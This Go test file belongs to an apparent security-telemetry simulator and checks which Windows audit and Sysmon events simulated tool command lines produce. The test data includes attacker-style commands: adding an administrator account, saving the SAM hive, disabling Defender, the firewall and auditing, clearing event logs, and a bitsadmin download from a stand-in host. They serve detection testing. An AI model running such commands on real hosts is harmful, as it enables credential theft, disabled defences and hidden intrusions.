package world

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"hemostat/sim/event"
	"hemostat/sim/role"
)

// wholeEstate is the embedded world with the whole audit on all hosts.
func wholeEstate(t *testing.T) *World {
	t.Helper()
	w := estate(t, func(*SensorSpec) {})
	whole := SensorSpec{Name: "whole audit", Channels: event.AuditNames()}
	w.buildSensors(&Spec{Sensors: []SensorSpec{whole}})
	return w
}

// short names an event: log and id, and on which kind of host.
func short(e *event.Event) string {
	log := strings.TrimPrefix(e.Value(event.LogChannel), "Microsoft-Windows-")
	log, _, _ = strings.Cut(log, "/")
	if log == "" {
		return e.Source.Service
	}
	return log + " " + e.Value(event.EventID)
}

// A tool's command line has its effects in every source that sees them.
func TestToolsDoWhatTheirCommandLineSays(t *testing.T) {
	for name, c := range map[string]struct {
		binary *Binary
		line   string
		want   []string // events, in any order
		field  event.Field
		value  string // that some event has in the field
	}{
		"an account is made": {Net, `net user support P@ss /add`,
			[]string{"Security 4720", "Security 4722", "Security 4724", "Security 4738", "Sysmon 1", "Security 4688",
				"Security 4689"}, event.TargetUserName, "support"},
		"a member is added": {Net, `net localgroup administrators support /add`, []string{"Security 4732"},
			event.TargetUserName, "administrators"},
		"the domain is asked": {Net, `net group "Domain Admins" /domain`,
			[]string{"Security 4661", "Security 5145", "dce_rpc"}, event.RelativeTargetName, "samr"},
		"a value is set": {Reg, `reg add "HKLM\SOFTWARE\Policies\X" /v Off /t REG_DWORD /d 1 /f`,
			[]string{"Sysmon 13", "Security 4657"}, event.Details, "DWORD (0x00000001)"},
		"a value of one's own": {Reg, `reg add HKCU\Software\Run /v A /d b.exe`, []string{"Sysmon 13"}, event.Details,
			"b.exe"},
		"a hive is saved": {Reg, `reg save HKLM\SAM C:\t\sam.save`,
			[]string{"Sysmon 11", "Security 4656", "Security 4663", "Security 4658"}, event.TargetFilename, `C:\t\sam.save`},
		"a service is created": {Sc, `sc.exe create Upd binPath= "C:\a b.exe" start= auto`,
			[]string{"System 7045", "Security 4697", "Sysmon 13"}, event.ImagePath, `C:\a b.exe`},
		"a service is disabled": {Sc, `sc config WinDefend start= disabled`, []string{"System 7040", "Sysmon 13"},
			event.Details, "DWORD (0x00000004)"},
		"a task is created": {Schtasks, `schtasks /create /tn Upd /tr "C:\x.exe -q" /sc daily`,
			[]string{"Security 4698", "TaskScheduler 106", "Sysmon 11", "Sysmon 13"}, event.TaskName, `\Upd`},
		"a log is cleared":       {Wevtutil, `wevtutil cl Security`, []string{"Security 1102"}, event.NoField, ""},
		"another log is cleared": {Wevtutil, `wevtutil.exe clear-log System`, []string{"System 104"}, event.NoField, ""},
		"the audit is switched": {Auditpol, `auditpol /set /category:"Logon/Logoff" /success:disable`,
			[]string{"Security 4719"}, event.NoField, ""},
		"the firewall is off": {Netsh, `netsh advfirewall set allprofiles state off`,
			[]string{"Windows Firewall With Advanced Security 2003", "Security 4950"}, event.NoField, ""},
		"a port is forwarded": {Netsh,
			`netsh interface portproxy add v4tov4 listenport=80 listenaddress=0.0.0.0 connectport=22 connectaddress=10.0.0.1`, []string{"Sysmon 13"}, event.Details, "10.0.0.1/22"},
		"a shell starts a program": {Cmd, `cmd.exe /c "whoami & net user"`, []string{"Sysmon 1", "Security 4688"},
			event.CommandLine, "whoami"},
		"a job is fetched": {Bitsadmin, `bitsadmin /transfer j http://x.example/a.exe C:\t\a.exe`,
			[]string{"Bits-Client 3", "Bits-Client 59", "Bits-Client 60", "Sysmon 11"}, event.TargetFilename, `C:\t\a.exe`},
		"somebody else's rights": {InSystem32("runas.exe", "RUNAS.EXE", "Run As Utility"),
			`runas /user:CORP\svc_sql cmd.exe`, []string{"Security 4648", "Security 4624"}, event.TargetUserName, "svc_sql"},
	} {
		t.Run(name, func(t *testing.T) {
			w := wholeEstate(t)
			actor := w.NewActor("a")
			h := w.WithRole(role.AppServer)[0]
			require.True(t, h.Windows())
			seen := map[string]bool{}
			found := c.value == ""
			w.Deliver = func(e *event.Event) {
				seen[short(e)] = true
				found = found || c.value != "" && e.Value(c.field) == c.value
			}
			w.StartProcess(time.Hour, actor, Start{Host: h, Account: w.Accounts[0], Binary: c.binary, CommandLine: c.line,
				Integrity: "High"})
			for _, want := range c.want {
				require.True(t, seen[want], "%s is missing among %v", want, keys(seen))
			}
			require.True(t, found, "no event has %s in %s", c.value, c.field)
		})
	}
}

// Whoever may not change a host or the domain leaves no trace of having done so.
func TestToolsWithoutRightsChangeNothing(t *testing.T) {
	w := wholeEstate(t)
	actor := w.NewActor("a")
	seen := map[string]bool{}
	w.Deliver = func(e *event.Event) { seen[short(e)] = true }
	h := w.WithRole(role.Workstation)[0]
	for _, line := range []string{`net user x y /add`, `net user x y /add /domain`,
		`net group "Domain Admins" x /add /domain`} {
		w.StartProcess(time.Hour, actor, Start{Host: h, Account: h.Owner, Binary: Net, CommandLine: line})
	}
	w.StartProcess(time.Hour, actor, Start{Host: h, Account: h.Owner, Binary: Wevtutil,
		CommandLine: "wevtutil cl Security"})
	for _, id := range []string{"4720", "4728", "4732", "1102"} {
		require.False(t, seen["Security "+id], id)
	}
	require.True(t, seen["Security 4688"])
}

// Which parts of the Security log are there follows from the sensors.
func TestTheAuditPolicyIsTheSensors(t *testing.T) {
	w := estate(t, func(*SensorSpec) {})
	actor := w.NewActor("a")
	var seen map[string]bool
	w.Deliver = func(e *event.Event) { seen[short(e)] = true }
	start := func(r role.Role) map[string]bool {
		seen = map[string]bool{}
		h := w.WithRole(r)[0]
		w.StartProcess(time.Hour, actor, Start{Host: h, Binary: Whoami, Integrity: "High"})
		return seen
	}
	require.True(t, start(role.FileServer)["Security 4688"])
	require.False(t, start(role.Workstation)["Security 4688"])
	require.False(t, start(role.FileServer)["Security 4703"])
	require.False(t, start(role.FileServer)["Security 4689"])
	w = wholeEstate(t)
	w.Deliver = func(e *event.Event) { seen[short(e)] = true }
	for _, id := range []string{"4688", "4689", "4703"} {
		require.True(t, start(role.Workstation)["Security "+id], id)
	}
}

// The records of one process agree: number, identifier, parent and logon, in Sysmon 1,
// Security 4688, 4689 and Sysmon 5.
func TestRecordsOfOneProcessAgree(t *testing.T) {
	w := wholeEstate(t)
	actor := w.NewActor("a")
	h := w.WithRole(role.FileServer)[0]
	byKind := map[string]*event.Event{}
	w.Deliver = func(e *event.Event) { byKind[short(e)] = e }
	p := w.StartProcess(time.Hour, actor, Start{Host: h, Account: w.Accounts[0], Binary: Ipconfig,
		CommandLine: "ipconfig"})
	sysmon, security := byKind["Sysmon 1"], byKind["Security 4688"]
	require.Equal(t, p.GUID, sysmon.Value(event.ProcessGuid))
	require.Equal(t, p.GUID, byKind["Sysmon 5"].Value(event.ProcessGuid))
	require.Equal(t, w.arena.Hex(uint64(p.PID)), security.Value(event.NewProcessId))
	require.Equal(t, security.Value(event.NewProcessId), byKind["Security 4689"].Value(event.ProcessId))
	require.Equal(t, sysmon.Value(event.LogonId), security.Value(event.SubjectLogonId))
	require.Equal(t, sysmon.Value(event.ParentImage), security.Value(event.ParentProcessName))
	require.Equal(t, w.arena.Hex(uint64(p.parent().PID)), security.Value(event.ProcessId))
	require.Equal(t, sysmon.Value(event.Hashes), Ipconfig.Hashes)
}

// Resident processes hang together as Windows starts them, the same on each look.
func TestProcessesHaveTheirParents(t *testing.T) {
	w := estate(t, func(*SensorSpec) {})
	h := w.WithRole(role.Workstation)[0]
	wmi := h.System(WmiPrvSE, "wmiprvse")
	require.Same(t, wmi, h.System(WmiPrvSE, "wmiprvse"))
	chain := []*Binary{Svchost, Services, wininit, smss}
	for p, i := wmi.Parent, 0; i < len(chain); p, i = p.Parent, i+1 {
		require.Same(t, chain[i], p.Binary)
	}
	shell := h.Program(Explorer, "explorer", h.Owner)
	require.Same(t, Userinit, shell.Parent.Binary)
	require.Same(t, Winlogon, shell.Parent.Parent.Binary)
	require.Equal(t, shell.PID, h.Program(Explorer, "explorer", h.Owner).PID)
}

func TestSplittingALine(t *testing.T) {
	require.Equal(t, []string{"a", "b c", "d"}, splitLine(`a "b c"  d`))
	require.Equal(t, []string{"a", ""}, splitLine(`a ""`))
	require.Equal(t, []string{`x="y z"`[:2] + "y z"}, splitLine(`x="y z"`))
	require.Empty(t, splitLine("  "))
}
